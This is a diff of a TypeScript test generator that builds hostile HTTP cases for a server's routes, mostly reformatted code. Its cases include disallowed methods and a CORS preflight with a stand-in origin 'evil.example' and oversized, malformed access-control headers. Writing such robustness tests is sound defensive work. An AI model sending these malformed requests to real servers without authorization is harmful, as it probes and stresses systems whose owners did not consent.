     rng = seededRng(options.seed ^ hashText(`methods ${path}`));
     const route = list.find((r) => r.method !== 'HEAD' && r.method !== 'OPTIONS') ?? list[0]!;
     const budget = BUDGETS[fixture.tier(route)];
-    const url = path.split('/').map((s) => (s.startsWith(':') ? encodeURIComponent(fixture.param(route, s.slice(1), false)) : s === '*' ? fixture.param(route, '*', false) : s)).join('/');
+    const url = path
+      .split('/')
+      .map((s) => (s.startsWith(':') ? encodeURIComponent(fixture.param(route, s.slice(1), false)) : s === '*' ? fixture.param(route, '*', false) : s))
+      .join('/');
     const registered = list.map((r) => r.method);
-    for (const method of some(ALL_METHODS.filter((m) => !registered.includes(m)), budget.methods)) {
-      add({ ...route, method }, `method ${method} not allowed`, { method, url, authenticated: false, headers: { 'content-type': 'application/json' }, payload: '{"a":1}' });
+    for (const method of some(
+      ALL_METHODS.filter((m) => !registered.includes(m)),
+      budget.methods,
+    )) {
+      add({ ...route, method }, `method ${method} not allowed`, {
+        method,
+        url,
+        authenticated: false,
+        headers: { 'content-type': 'application/json' },
+        payload: '{"a":1}',
+      });
     }
     add({ ...route, method: 'OPTIONS' }, 'preflight with odd headers', {
-      method: 'OPTIONS', url, authenticated: false,
-      headers: { origin: 'https://evil.example', 'access-control-request-method': 'X'.repeat(1000), 'access-control-request-headers': ',,,x-a, \u00ff, ' + 'h,'.repeat(500) },
+      method: 'OPTIONS',
+      url,
+      authenticated: false,
+      headers: {
+        origin: 'https://evil.example',
+        'access-control-request-method': 'X'.repeat(1000),
+        'access-control-request-headers': ',,,x-a, \u00ff, ' + 'h,'.repeat(500),
+      },
     });
   }
   return cases;
@@ -995,11 +1308,17 @@ export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options
 /** How a case is shown in a failure message: enough to replay it. */
 export function describeCase(c: HostileCase): string {
   // Long bodies: the start and the end, where a hostile value usually shows; the case id names it too.
-  const body = c.payload === undefined ? '(none)'
-    : Buffer.isBuffer(c.payload) ? `<${c.payload.length} bytes> ${c.payload.subarray(0, 80).toString('hex')}`
-      : c.payload.length <= 400 ? JSON.stringify(c.payload)
-        : `${JSON.stringify(c.payload.slice(0, 240))} … ${JSON.stringify(c.payload.slice(-120))} (${c.payload.length} chars)`;
-  const extra = Object.entries(c.headers).filter(([k]) => k !== 'content-type').map(([k, v]) => `${k}: ${v.slice(0, 60)}${v.length > 60 ? '…' : ''}`);
+  const body =
+    c.payload === undefined
+      ? '(none)'
+      : Buffer.isBuffer(c.payload)
+        ? `<${c.payload.length} bytes> ${c.payload.subarray(0, 80).toString('hex')}`
+        : c.payload.length <= 400
+          ? JSON.stringify(c.payload)
+          : `${JSON.stringify(c.payload.slice(0, 240))} … ${JSON.stringify(c.payload.slice(-120))} (${c.payload.length} chars)`;
+  const extra = Object.entries(c.headers)
+    .filter(([k]) => k !== 'content-type')
+    .map(([k, v]) => `${k}: ${v.slice(0, 60)}${v.length > 60 ? '…' : ''}`);
   return [
     `${c.method} ${c.url.length > 200 ? `${c.url.slice(0, 200)}… (${c.url.length} chars)` : c.url}${c.authenticated ? ' [logged in]' : ''}`,
     `  content-type: ${c.headers['content-type'] ?? '(none)'}`,
